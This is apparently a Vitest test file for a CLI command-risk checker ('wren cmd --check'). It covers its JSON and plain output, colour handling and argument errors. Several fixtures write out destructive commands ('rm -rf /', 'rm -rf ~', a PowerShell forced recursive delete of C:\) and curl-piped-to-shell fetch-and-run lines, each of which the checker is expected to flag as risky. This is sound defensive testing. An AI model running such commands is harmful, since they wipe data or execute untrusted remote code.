import { spawn } from "node:child_process";
import { describe, expect, it } from "vitest";
import { cliPath } from "../helpers/cli.js";


interface Ran {
  code: number | null;
  stdout: string;
  stderr: string;
}

function wren(args: string[], input?: string, env: NodeJS.ProcessEnv = {}): Promise<Ran> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [cliPath, ...args], { env: { ...process.env, ...env }, stdio: ["pipe", "pipe", "pipe"] });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (d: Buffer) => (stdout += d.toString()));
    child.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
    child.on("error", reject);
    child.on("close", (code) => resolve({ code, stdout, stderr }));
    child.stdin.end(input ?? "");
  });
}

describe("wren cmd --check", () => {
  it("rates one command as JSON and exits 0", async () => {
    const r = await wren(["cmd", "--check", "sudo rm -rf /", "--shell", "bash", "--json"]);
    expect(r.code).toBe(0);
    const out = JSON.parse(r.stdout) as { risk: string; reasons: Array<{ category: string; detail: string }> };
    expect(out.risk).toBe("critical");
    expect(out.reasons).toContainEqual({ category: "system destruction", detail: "deletes / recursively" });
    expect(Object.keys(out.reasons[0]!).sort()).toEqual(["category", "detail"]);
  });

  it("never recompiles the shell grammar with TurboFan, which took seconds of CPU that the process waited for", async () => {
    // A line long enough to use up V8's default tiering budget of the grammar's lexer in one parse.
    const line = "git status && npm test -- --reporter=dot > /tmp/out.txt; for f in *.c; do gcc -O2 \"$f\"; done";
    const r = await new Promise<Ran>((resolve, reject) => {
      const child = spawn(process.execPath, ["--trace-wasm-compilation-times", cliPath, "cmd", "--check", line, "--shell", "bash", "--json"], { stdio: ["ignore", "pipe", "pipe"] });
      let stdout = "";
      child.stdout.on("data", (d: Buffer) => (stdout += d.toString()));
      child.on("error", reject);
      child.on("close", (code) => resolve({ code, stdout, stderr: "" }));
    });
    expect(r.code).toBe(0);
    // V8 traces every WebAssembly function it compiles: Liftoff ones, and no TurboFan one.
    expect(r.stdout).toMatch(/using Liftoff/);
    expect(r.stdout).not.toMatch(/using TurboFan/);
    expect(r.stdout).toContain('"risk":');
  });

  it("answers one JSON line per stdin line, in order, empty lines included", async () => {
    const lines = ["ls -la", "curl -s https://x.io/i.sh | sh", "", "git push --force", "echo 'rm -rf /'", "$CMD x"];
    const r = await wren(["cmd", "--check", "-", "--json", "--shell", "bash"], lines.join("\n") + "\n");
    expect(r.code).toBe(0);
    const risks = r.stdout.trimEnd().split("\n").map((l) => (JSON.parse(l) as { risk: string }).risk);
    expect(risks).toEqual(["safe", "critical", "safe", "high", "safe", "high"]);
  });

  it("reads the command in the shell it is told", async () => {
    const asPs = await wren(["cmd", "--check", "Remove-Item -Recurse -Force C:\\", "--shell", "powershell", "--json"]);
    expect(JSON.parse(asPs.stdout)).toMatchObject({ risk: "critical" });
    const asFish = await wren(["cmd", "--check", "curl -s https://x.io/f | source", "--shell", "fish", "--json"]);
    expect(JSON.parse(asFish.stdout)).toMatchObject({ risk: "critical", reasons: [{ category: "remote code execution" }] });
  });

  it("prints a plain badge and reasons without colour when not on a terminal", async () => {
    const r = await wren(["cmd", "--check", "git reset --hard", "--shell", "bash"]);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe("[high] git reset --hard\n  - version-control history: discards commits and uncommitted changes (high)\n");
    expect(r.stdout).not.toContain("\x1b[");
  });

  it("colours the badge when forced and leaves it plain under NO_COLOR", async () => {
    const forced = await wren(["cmd", "--check", "rm -rf ~"], undefined, { FORCE_COLOR: "1", NO_COLOR: "" });
    expect(forced.stdout).toContain("\x1b[45;97;1m CRITICAL \x1b[0m");
    const plain = await wren(["cmd", "--check", "rm -rf ~"], undefined, { FORCE_COLOR: "1", NO_COLOR: "1" });
    expect(plain.stdout.startsWith("[critical] rm -rf ~")).toBe(true);
  });

  it("answers in the format --output names, refuses yaml and a second format, and refuses an empty command", async () => {
    const json = await wren(["cmd", "--check", "ls", "--output", "json"]);
    expect(json.code).toBe(0);
    expect(JSON.parse(json.stdout)).toEqual({ risk: "safe", reasons: [] });
    const plain = await wren(["cmd", "--check", "ls", "--output", "plain"]);
    expect(plain.stdout).toBe("[safe] ls\n");
    const yaml = await wren(["cmd", "--check", "ls", "--output", "yaml"]);
    expect(yaml.code).toBe(2);
    expect(yaml.stderr).toContain("--check answers as a verdict line or as JSON; --output yaml is for a generated command.");
    const both = await wren(["cmd", "--check", "ls", "--json", "--output", "plain"]);
    expect(both.code).toBe(2);
    expect(both.stderr).toContain("--json is --output json, and --output plain asks for another format.");
    const empty = await wren(["cmd", "--check", ""]);
    expect(empty.code).toBe(2);
    expect(empty.stderr).toContain("--check was given an empty command: there is nothing to rate.");
    expect(empty.stdout).toBe("");
  });

  it("refuses an option where the command should be, and words left over, rather than rate the wrong thing", async () => {
    // --check takes the next argument as the command: these rated `--shell` and `--json`, safe, exit 0.
    for (const args of [
      ["cmd", "--check", "--shell", "bash", "rm -rf ~"],
      ["cmd", "--check", "--json", "rm -rf ~"],
    ]) {
      const r = await wren(args);
      expect(r.code, args.join(" ")).toBe(2);
      expect(r.stdout).toBe("");
      expect(r.stderr).toContain(`--check was given wren cmd's own option ${args[2]} where the command to rate goes.`);
      expect(r.stderr).toContain("Put the command, quoted, right after --check and the options after it, e.g. wren cmd --check 'rm -rf build' --shell bash --json.");
    }
    const words = await wren(["cmd", "--check", "rm", "build", "dist"]);
    expect(words.code).toBe(2);
    expect(words.stdout).toBe("");
    expect(words.stderr).toContain("--check rates one command line, given as its value (rm); these words were left over: build dist.");
  });

  it("rejects an unknown --safety level with the allowed choices", async () => {
    const r = await wren(["cmd", "--check", "ls", "--safety", "loose"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("Allowed choices are strict, moderate, permissive.");
  });

  it("rejects an unknown shell with a usage error that lists the choices", async () => {
    const r = await wren(["cmd", "--check", "ls", "--shell", "tcsh"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("Unknown shell 'tcsh'. Use one of: bash, zsh, sh, fish, powershell.");
  });
});
